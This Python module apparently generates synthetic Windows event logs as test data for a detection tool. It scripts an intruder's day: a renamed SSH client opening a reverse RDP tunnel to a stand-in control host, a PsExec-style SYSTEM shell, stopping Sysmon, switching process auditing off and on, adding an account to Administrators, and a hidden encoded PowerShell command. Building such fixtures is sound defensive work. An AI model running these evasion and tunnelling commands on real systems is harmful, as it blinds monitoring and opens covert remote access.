"""Tuesday, 19 May 2020: the second boot, a renamed tool, and an intruder who switches the witnesses off and on.

Two things are to be found by lineage alone, while Sysmon is stopped (09:20 to 09:45); others only look like it,
because process ids come back: 6120 and 5208 within the day, 7024 over the night.
"""

from __future__ import annotations

from base64 import b64encode
from functools import partial

from tests.evtxmaker import filetime

from .activity import (
    audit_process_creation,
    booted,
    clock_set,
    connected,
    explicit_logon,
    file_created,
    logoff,
    logon,
    name_resolved,
    registry_key,
    registry_value,
    security_started,
    service_installed,
    service_state,
    sysmon_service,
)
from .cast import (
    BRANDT,
    CHROME,
    CMD,
    CONTROL_HOST,
    CONTROL_IP,
    INTRUDER_HOST,
    INTRUDER_IP,
    KELLER,
    LOCAL_SERVICE,
    NETWORK_SERVICE,
    OFFICE,
    ORTIZ,
    OWN_IP,
    PROXY,
    SYSTEM,
    SYSTEM32,
    TUESDAY,
    at,
    start_desktop,
    start_windows,
    svchost,
    user,
)
from .machine import Machine, Process
from .monday import UPDATE_SERVICE

_PIDS = {
    "smss": 372, "smss-0": 460, "csrss-0": 500, "smss-1": 568, "wininit": 576, "csrss-1": 588, "winlogon": 676,
    "services": 720, "lsass": 736, "dcom": 872, "rpc": 964, "eventlog": 1212, "schedule": 1328, "profiles": 1376,
    "users": 1420, "dns": 1696, "terminal": 1760, "time": 1816, "wmi": 1932, "bits": 2268, "shared": 4988,
    "spooler": 2520, "defender": 2884,
}  # fmt: skip

KELLER_TUESDAY = user(*KELLER, 0x61B7D, "2020-05-19T07:52:18Z", terminal=1)
BRANDT_TUESDAY = user(*BRANDT, 0x1A90C4, "2020-05-19T08:55:37Z", terminal=2)
ORTIZ_STOLEN = user(*ORTIZ, 0x21D3E7, "2020-05-19T09:12:01Z", terminal=0, integrity="High")
ORTIZ_HIGH = user(*ORTIZ, 0x4C02B8, "2020-05-19T12:30:44Z", terminal=3, integrity="High")
ORTIZ_LOW = user(*ORTIZ, 0x4C02F3, "2020-05-19T12:30:44Z", terminal=3)

CONHOST = SYSTEM32 + "conhost.exe"
_CONSOLE = "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"
_SERVICE_KEY = "HKLM\\System\\CurrentControlSet\\Services\\USOSVC"


def tell(machine: Machine) -> None:
    """Tell all of Tuesday."""
    running = _boot(machine)
    _morning(machine, running)
    _renamed_tool(machine, running)
    _shell_by_service(machine, running)
    _without_sysmon(machine, running)
    _without_auditing(machine, running)
    _service_under_another_name(machine, running)
    _shared_host(machine, running)
    _afternoon(machine, running)


def _boot(machine: Machine) -> dict[str, Process]:
    booted(machine, at(TUESDAY, "07:41:02"), at(TUESDAY, "07:41:09"), 12)
    machine.sysmon_pid, machine.sysmon_since = 2716, filetime(at(TUESDAY, "07:41:11"))
    machine.lsass_pid = _PIDS["lsass"]
    running = start_windows(machine, TUESDAY, "07:41", _PIDS)
    security_started(machine, at(TUESDAY, "07:41:06.9"))
    service = partial(logon, machine, process=running["services"], by="Advapi  ", ip="-", port="-")
    for clock, session in (("07:41:07.2", NETWORK_SERVICE), ("07:41:07.5", LOCAL_SERVICE), ("07:41:07.8", SYSTEM)):
        service(at(TUESDAY, clock), session, 5)
    image = "C:\\Windows\\Sysmon64.exe"
    machine.start(at(TUESDAY, "07:41:10.8"), 2716, image, image, parent=running["services"])
    sysmon_service(machine, at(TUESDAY, "07:41:11"), 2716)
    services = running["services"]
    running["usosvc"] = svchost(machine, at(TUESDAY, "07:44:12"), 6120, "-k netsvcs -p -s UsoSvc", services)
    service_state(machine, at(TUESDAY, "07:44:12"), "UsoSvc", UPDATE_SERVICE, running=True)
    for clock, pid, name, command_line in (
        ("07:44:19", 6160, "MoUsoCoreWorker.exe", "C:\\Windows\\System32\\mousocoreworker.exe -Embedding"),
        ("07:46:02", 6188, "MusNotification.exe", "C:\\Windows\\system32\\MusNotification.exe"),
    ):
        child = machine.start(at(TUESDAY, clock), pid, SYSTEM32 + name, command_line, parent=running["usosvc"])
        machine.end(child, at(TUESDAY, f"{clock[:-2]}51"))
    return running


def _morning(machine: Machine, running: dict[str, Process]) -> None:
    winlogon = running["winlogon"]
    explicit_logon(machine, at(TUESDAY, "07:52:17"), KELLER_TUESDAY, winlogon)
    logon(machine, at(TUESDAY, "07:52:18"), KELLER_TUESDAY, 11, process=winlogon, workstation="WS-FIN-07")
    explorer = start_desktop(machine, TUESDAY, "07:52", running, session=KELLER_TUESDAY, first_pid=4100)
    line = f'"{OFFICE}OUTLOOK.EXE"'
    outlook = machine.start(at(TUESDAY, "07:54:40"), 6300, OFFICE + "OUTLOOK.EXE", line, parent=explorer)
    name_resolved(machine, at(TUESDAY, "07:54:43"), outlook, "mail.corp.example", "192.0.2.25")
    connected(machine, at(TUESDAY, "07:54:43"), outlook, "192.0.2.25", 443, own_ip=OWN_IP, host="mail.corp.example")
    browser = machine.start(at(TUESDAY, "08:03:15"), 6352, CHROME, f'"{CHROME}"', parent=explorer)
    connected(machine, at(TUESDAY, "08:03:17"), browser, PROXY, 3128, own_ip=OWN_IP, host="proxy.corp.example")
    running["explorer"] = explorer
    running["secondary"] = svchost(
        machine, at(TUESDAY, "08:30:21"), 5208, "-k netsvcs -p -s seclogon", running["services"]
    )


def _renamed_tool(machine: Machine, running: dict[str, Process]) -> None:
    """The Orchestrator starts a tunnelling client that calls itself a graphics service."""
    terminal = running["terminal"]
    explicit_logon(machine, at(TUESDAY, "08:55:36"), BRANDT_TUESDAY, terminal, INTRUDER_IP)
    remote = partial(logon, machine, process=terminal, ip=INTRUDER_IP, workstation="WS-FIN-07")
    remote(at(TUESDAY, "08:55:37"), BRANDT_TUESDAY, 10)
    explorer = start_desktop(machine, TUESDAY, "08:56", running, session=BRANDT_TUESDAY, first_pid=6804)
    image = "C:\\ProgramData\\Intel\\igfxsvc.exe"
    file_created(machine, at(TUESDAY, "08:59:12"), explorer, image)
    line = f"{image} -ssh -N -batch -P 443 -R 127.0.0.1:33389:127.0.0.1:3389 sync@{CONTROL_HOST}"
    tunnel = machine.start(at(TUESDAY, "09:05:31"), 7404, image, line, parent=running["usosvc"])
    machine.start(at(TUESDAY, "09:05:31.9"), 7412, CONHOST, _CONSOLE, parent=tunnel)
    name_resolved(machine, at(TUESDAY, "09:05:32"), tunnel, CONTROL_HOST, CONTROL_IP)
    connected(machine, at(TUESDAY, "09:05:32"), tunnel, CONTROL_IP, 443, own_ip=OWN_IP, host=CONTROL_HOST)
    running["tunnel"] = tunnel


def _shell_by_service(machine: Machine, running: dict[str, Process]) -> None:
    """An administrator's stolen password over the network: a service, and through it a shell as SYSTEM."""
    remote = partial(logon, package="NTLM", by="NtLmSsp ", ip=INTRUDER_IP, port="50217", workstation=INTRUDER_HOST)
    remote(machine, at(TUESDAY, "09:12:01"), ORTIZ_STOLEN, 3, elevated=True)
    image = "C:\\Windows\\PSEXESVC.exe"
    service_installed(machine, at(TUESDAY, "09:12:03"), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", ORTIZ_STOLEN)
    service = machine.start(at(TUESDAY, "09:12:04"), 6632, image, image, parent=running["services"])
    service_state(machine, at(TUESDAY, "09:12:04"), "PSEXESVC", "PSEXESVC", running=True)
    running["shell"] = machine.start(at(TUESDAY, "09:12:05"), 6644, CMD, f'"{CMD}"', parent=service)
    machine.start(at(TUESDAY, "09:12:05.9"), 6652, CONHOST, _CONSOLE, parent=running["shell"])
    machine.start(at(TUESDAY, "09:20:01"), 6672, SYSTEM32 + "sc.exe", "sc  stop Sysmon64", parent=running["shell"])


def _without_sysmon(machine: Machine, running: dict[str, Process]) -> None:
    """Twenty-five minutes that only the Security log has seen."""
    start, shell, services = machine.start, running["shell"], running["services"]
    sysmon_service(machine, at(TUESDAY, "09:20:03"), None)

    # Found by lineage: pid 6120 is the Orchestrator's host, started at 07:44.
    image = "C:\\Users\\Public\\Libraries\\winupd.exe"
    update = start(at(TUESDAY, "09:22:47"), 7508, image, f"{image} --once", parent=running["usosvc"])
    machine.end(update, at(TUESDAY, "09:24:02"))

    # 6120 ends and comes back as the host of another service: its child is nobody's hijack.
    machine.end(running["usosvc"], at(TUESDAY, "09:25:10"))
    service_state(machine, at(TUESDAY, "09:25:10"), "UsoSvc", UPDATE_SERVICE, running=False)
    account = svchost(machine, at(TUESDAY, "09:27:33"), 6120, "-k netsvcs -p -s wlidsvc", services)
    line = "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\wlidprov.dll,Refresh"
    refresh = start(at(TUESDAY, "09:29:05"), 7560, SYSTEM32 + "rundll32.exe", line, parent=account)
    machine.end(refresh, at(TUESDAY, "09:29:06"))

    # The reverse: 5208 was the host of Secondary Logon, and is now the Orchestrator's. Found by lineage.
    machine.end(running["secondary"], at(TUESDAY, "09:30:40"))
    running["usosvc"] = svchost(machine, at(TUESDAY, "09:32:15"), 5208, "-k netsvcs -p -s UsoSvc", services)
    service_state(machine, at(TUESDAY, "09:32:15"), "UsoSvc", UPDATE_SERVICE, running=True)
    line = f"{CMD} /c net localgroup Administrators CORP\\t.brandt /add"
    adding = start(at(TUESDAY, "09:34:09"), 7604, CMD, line, parent=running["usosvc"])
    start(at(TUESDAY, "09:34:09.9"), 7612, CONHOST, _CONSOLE, parent=adding)
    line = "net  localgroup Administrators CORP\\t.brandt /add"
    net = start(at(TUESDAY, "09:34:10.1"), 7620, SYSTEM32 + "net.exe", line, parent=adding)
    machine.end(net, at(TUESDAY, "09:34:10.6"))
    machine.end(adding, at(TUESDAY, "09:34:10.7"))

    # While nothing is audited a service host gets pid 7024, which on Monday was the Orchestrator's; it has a child.
    auditpol = SYSTEM32 + "auditpol.exe"
    switch = 'auditpol  /set /subcategory:"Process Creation" /success:{}'
    start(at(TUESDAY, "09:35:58"), 7640, auditpol, switch.format("disable"), parent=shell)
    audit_process_creation(machine, at(TUESDAY, "09:36:00"), SYSTEM, on=False)
    unseen = svchost(machine, at(TUESDAY, "09:36:30"), 7024, "-k netsvcs -p -s Appinfo", services)
    start(at(TUESDAY, "09:37:08"), 7652, auditpol, switch.format("enable"), parent=shell)
    audit_process_creation(machine, at(TUESDAY, "09:37:10"), SYSTEM, on=True)
    line = "C:\\Windows\\system32\\reg.exe query HKLM\\SYSTEM\\Setup"
    query = start(at(TUESDAY, "09:39:21"), 7668, SYSTEM32 + "reg.exe", line, parent=unseen)
    machine.end(query, at(TUESDAY, "09:39:22"))

    image = "C:\\Windows\\Sysmon64.exe"
    start(at(TUESDAY, "09:45:08"), 7716, image, image, parent=services)
    sysmon_service(machine, at(TUESDAY, "09:45:10"), 7716)


def _without_auditing(machine: Machine, running: dict[str, Process]) -> None:
    """Two minutes that only Sysmon has seen, with a hijack in them."""
    auditpol, shell = SYSTEM32 + "auditpol.exe", running["shell"]
    switch = 'auditpol  /set /subcategory:"Process Creation" /success:{}'
    machine.start(at(TUESDAY, "09:50:00"), 7760, auditpol, switch.format("disable"), parent=shell)
    audit_process_creation(machine, at(TUESDAY, "09:50:02"), SYSTEM, on=False)
    line = "C:\\Windows\\System32\\cscript.exe //B //NoLogo C:\\ProgramData\\Intel\\sync.vbs"
    script = machine.start(at(TUESDAY, "09:51:14"), 7772, SYSTEM32 + "cscript.exe", line, parent=running["usosvc"])
    name_resolved(machine, at(TUESDAY, "09:51:15"), script, CONTROL_HOST, CONTROL_IP)
    machine.end(script, at(TUESDAY, "09:51:40"))
    machine.start(at(TUESDAY, "09:52:00"), 7788, auditpol, switch.format("enable"), parent=shell)
    audit_process_creation(machine, at(TUESDAY, "09:52:02"), SYSTEM, on=True)


def _service_under_another_name(machine: Machine, running: dict[str, Process]) -> None:
    """The intruder deletes the service and registers it anew, in capitals; it is the same service to Windows."""
    start, shell = machine.start, running["shell"]
    machine.end(running["usosvc"], at(TUESDAY, "09:58:30"))
    service_state(machine, at(TUESDAY, "09:58:30"), "UsoSvc", UPDATE_SERVICE, running=False)
    start(at(TUESDAY, "09:59:02"), 8404, SYSTEM32 + "sc.exe", "sc  delete UsoSvc", parent=shell)
    path = "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s USOSVC"
    line = f'sc  create USOSVC binPath= "{path}" type= share start= auto'
    start(at(TUESDAY, "10:00:40"), 8432, SYSTEM32 + "sc.exe", line, parent=shell)
    registry_key(machine, at(TUESDAY, "10:00:40.6"), running["services"], _SERVICE_KEY)
    registry_value(machine, at(TUESDAY, "10:00:40.7"), running["services"], f"{_SERVICE_KEY}\\ImagePath", path)
    service_installed(machine, at(TUESDAY, "10:00:40.8"), "USOSVC", path, SYSTEM, automatic=True)
    host = svchost(machine, at(TUESDAY, "10:01:55"), 8456, "-k netsvcs -p -s USOSVC", running["services"])
    service_state(machine, at(TUESDAY, "10:01:55"), "USOSVC", "USOSVC", running=True)

    image = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
    encoded = b64encode("Get-Date | Out-File C:\\ProgramData\\Intel\\t.txt".encode("utf-16-le")).decode()
    line = f"{image} -NoProfile -WindowStyle Hidden -EncodedCommand {encoded}"
    powershell = start(at(TUESDAY, "10:04:18"), 8480, image, line, parent=host)
    start(at(TUESDAY, "10:04:18.9"), 8488, CONHOST, _CONSOLE, parent=powershell)
    connected(machine, at(TUESDAY, "10:04:21"), powershell, CONTROL_IP, 443, own_ip=OWN_IP, host=CONTROL_HOST)
    file_created(machine, at(TUESDAY, "10:04:22"), powershell, "C:\\ProgramData\\Intel\\t.txt")
    machine.end(powershell, at(TUESDAY, "10:04:25"))

    # The rule excludes this name in any folder.
    image = "C:\\ProgramData\\Intel\\MoUsoCoreWorker.exe"
    start(at(TUESDAY, "10:20:50"), 8532, image, image, parent=host)
    running["usosvc"] = host


def _shared_host(machine: Machine, running: dict[str, Process]) -> None:
    """A child of a service host that holds several services of the group netsvcs, and does not say which."""
    image = "C:\\Windows\\Temp\\~df41.exe"
    file_created(machine, at(TUESDAY, "10:29:30"), running["shell"], image)
    child = machine.start(at(TUESDAY, "10:30:07"), 8604, image, f"{image} /s", parent=running["shared"])
    machine.end(child, at(TUESDAY, "10:30:58"))


def _afternoon(machine: Machine, running: dict[str, Process]) -> None:
    logoff(machine, at(TUESDAY, "11:02:13"), BRANDT_TUESDAY, 10, by_user=True)
    logoff(machine, at(TUESDAY, "11:02:40"), ORTIZ_STOLEN, 3)
    machine.end(running["tunnel"], at(TUESDAY, "11:05:09"))
    clock_set(machine, at(TUESDAY, "12:00:00.0041873"), at(TUESDAY, "11:59:59.8112046"), running["time"])
    winlogon = running["winlogon"]
    explicit_logon(machine, at(TUESDAY, "12:30:43"), ORTIZ_HIGH, winlogon)
    pair = partial(logon, machine, process=winlogon, workstation="WS-FIN-07")
    pair(at(TUESDAY, "12:30:44.2200104"), ORTIZ_HIGH, 2, linked=ORTIZ_LOW.logon_id, elevated=True)
    pair(at(TUESDAY, "12:30:44.2200398"), ORTIZ_LOW, 2, linked=ORTIZ_HIGH.logon_id)
    explorer = start_desktop(machine, TUESDAY, "12:31", running, session=ORTIZ_LOW, first_pid=8708)
    image = SYSTEM32 + "cmd.exe"
    shell = machine.start(at(TUESDAY, "12:34:10"), 9140, image, f'"{image}"', parent=explorer, session=ORTIZ_HIGH)
    line = "sc  query Sysmon64"
    machine.start(at(TUESDAY, "12:34:31"), 9164, SYSTEM32 + "sc.exe", line, parent=shell)
    logoff(machine, at(TUESDAY, "12:50:02"), ORTIZ_LOW, 2, by_user=True)
    logoff(machine, at(TUESDAY, "12:50:03"), ORTIZ_HIGH, 2)
    machine.end(running["explorer"], at(TUESDAY, "16:31:20"))
    logoff(machine, at(TUESDAY, "16:31:24"), KELLER_TUESDAY, 11, by_user=True)
